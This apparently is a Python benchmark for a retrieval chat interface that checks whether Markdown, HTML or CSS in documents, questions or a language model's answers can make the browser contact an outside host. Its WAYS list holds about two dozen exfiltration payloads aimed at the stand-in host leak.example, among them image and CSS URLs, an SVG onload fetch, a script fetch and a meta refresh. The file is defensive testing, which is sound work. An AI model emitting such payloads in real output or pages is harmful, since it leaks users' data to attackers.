"""R18: addresses that a page would fetch if a document or a question could make it do so.

    python -m benchmarks.reliability.exfiltration

Every way in which Markdown, HTML or CSS makes a browser fetch, as a document, its title and as a question, on a running
chat; as what a language model writes, supported or not, and as its name; and as a conversation saved as Markdown and
drawn by a Markdown reader that lets HTML through. The browser's own list of requests may hold no other host, and the
address has to be there as text.
"""

from collections import Counter
from pathlib import Path

from markdown_it import MarkdownIt

from benchmarks.reliability.faults import Bar, measured, of_tests
from benchmarks.reliability.hostile import RUNNING, STRANGE, ask, browser, chat
from index import Index
from rag.history import conversations, read_conversation
from ui.exporting import as_markdown

HOST = "leak.example"
WAYS = (
    f"![x](https://{HOST}/inline.png?secret)",
    f"![x][leak] [leak]: https://{HOST}/reference.png",
    f"[click here](https://{HOST}/link?secret)",
    f"<https://{HOST}/autolink>",
    f"https://{HOST}/bare and www.{HOST}/bare",
    f"<img src=https://{HOST}/html.png>",
    f'<img srcset="https://{HOST}/set.png 2x">',
    f"![x](//{HOST}/protocol-relative.png)",
    f"<img src='//{HOST}/protocol-relative-html.png'>",
    f"<iframe src=data:text/html,<img/src=https://{HOST}/data.png>></iframe>",
    f"![x](data:image/svg+xml,<svg/onload=fetch('https://{HOST}/svg')>)",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/meta">',
    f"<style>body{{background:url(https://{HOST}/css.png)}}</style>",
    f'<p style="background:url(https://{HOST}/style.png)">x</p>',
    f'<link rel=stylesheet href="https://{HOST}/link.css">',
    f'<base href="https://{HOST}/">',
    f'<video poster="https://{HOST}/poster.png"><source src="https://{HOST}/v.mp4"></video>',
    f'<svg><image href="https://{HOST}/svg.png"/><use xlink:href="https://{HOST}/use.svg#x"/></svg>',
    f'<form action="https://{HOST}/form"><button>x</button></form>',
    f'<object data="https://{HOST}/object"></object><embed src="https://{HOST}/embed">',
    f"$\\\\includegraphics{{https://{HOST}/tex.png}}$ $\\\\href{{https://{HOST}/tex}}{{x}}$",
    f"```mermaid\ngraph LR; A-->B; click A 'https://{HOST}/mermaid'\n```".replace("\n", " "),
    f'<a href="https://{HOST}/ping" ping="https://{HOST}/ping">x</a>',
    f"<script>fetch('https://{HOST}/script')</script>",
)


def asked(folder: Path, bar: Bar) -> None:
    docs = folder / "docs"
    docs.mkdir()
    for number, way in enumerate(WAYS):
        (docs / f"{number}.txt").write_text(f"{way}\n\nThe lantern of field {number} is kept at {way} since 1931.\n")
    Index.build([docs], folder / "at")
    strange: Counter[str] = Counter()
    missing = []
    with chat(folder / "at", "--threshold", "0") as address, browser(address) as (page, noted):
        page.goto(address)
        page.wait_for_selector("#question textarea")
        for turn, way in enumerate(WAYS, 1):
            ask(page, f"Where is the lantern of field {turn - 1} kept? {way}", turn)
            if way not in page.inner_text(f"#t-{turn} h3"):
                missing.append(f"question {way}")
            page.evaluate(f"document.querySelector('#t-{turn} a.open').click()")
            page.wait_for_selector("dialog#reader[open]")
            strange.update(page.eval_on_selector("dialog#reader main", STRANGE))
            if "leak.example" not in page.inner_text("dialog#reader main"):
                missing.append(f"document {way}")
            page.keyboard.press("Escape")
        page.wait_for_timeout(1000)
        for place in ("#chat", "#sources"):
            strange.update(page.eval_on_selector(place, RUNNING))
        for kind in (".asked", ".answer", "#sources .turn"):
            strange.update(page.evaluate(f"[...document.querySelectorAll('{kind}')].flatMap({STRANGE})"))
        gone = page.url.split("/")[2] != address.split("/")[2]
    for line in [*strange, *missing, *noted.elsewhere, *noted.errors][:20]:
        print(line[:300], flush=True)
    bar.note("ways", len(WAYS))
    bar.check("requests to other hosts", len(noted.elsewhere), 0)
    bar.check("elements, attributes and addresses that are not ours", strange.total(), 0)
    bar.check("addresses that are not there as text", len(missing), 0)
    bar.check("script errors and dialogs", len(noted.errors) + len(noted.dialogs), 0)
    bar.check("the page was left", int(gone), 0)


def written(folder: Path, bar: Bar) -> None:
    """The same from a language model; `asked` has made the index."""
    that = of_tests("language_server")
    strange: Counter[str] = Counter()
    missing = []
    with (
        that.serving(that.says("x")) as server,
        chat(folder / "at", "--threshold", "0", "--llm-url", server.url, "--llm-model", WAYS[0]) as address,
        browser(address) as (page, noted),
    ):
        page.goto(address)
        page.wait_for_selector("#question textarea")
        for turn, way in enumerate(WAYS, 1):
            said = f"The lantern of field {turn - 1} is kept at {way} since 1931 [1]. Penguins carry {way} to the moon."
            server.reply = that.says(*(said[at : at + 7] for at in range(0, len(said), 7)))
            ask(page, f"Where is the lantern of field {turn - 1} kept?", turn)
            page.wait_for_selector(f"#t-{turn} details.found", state="attached")
            if "leak.example" not in page.inner_text("#chat .answer >> nth=-1"):
                missing.append(f"answer {way}")
        page.wait_for_timeout(1000)
        for place in ("#chat", "#sources"):
            strange.update(page.eval_on_selector(place, RUNNING))
        for kind in (".asked", ".answer", ".told", "#sources .turn"):
            strange.update(page.evaluate(f"[...document.querySelectorAll('{kind}')].flatMap({STRANGE})"))
        doubted = page.locator("#chat .doubt").count()
        text = as_markdown(read_conversation(folder / "at", conversations(folder / "at")[0].id))
        page.set_content(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
        page.wait_for_timeout(500)
        drawn = page.eval_on_selector("body", RUNNING) + page.eval_on_selector_all(
            "a", "(all) => all.map(one => one.href)"
        )
    for line in [*strange, *missing, *drawn, *noted.elsewhere, *noted.errors][:20]:
        print(line[:300], flush=True)
    bar.note("answers of a language model", len(WAYS))
    bar.note("sentences of it that were shown as doubted", doubted)
    bar.check("written: requests to other hosts", len(noted.elsewhere), 0)
    bar.check("written: elements, attributes and addresses that are not ours", strange.total(), 0)
    bar.check("written: addresses that are not there as text", len(missing), 0)
    bar.check("written: script errors and dialogs", len(noted.errors) + len(noted.dialogs), 0)
    bar.check("saved as Markdown: links, images and what may run", len(drawn), 0)


def main() -> None:
    with measured("exfiltration", 1, __doc__) as (_, folder, bar):
        asked(folder, bar)
        written(folder, bar)


if __name__ == "__main__":
    main()
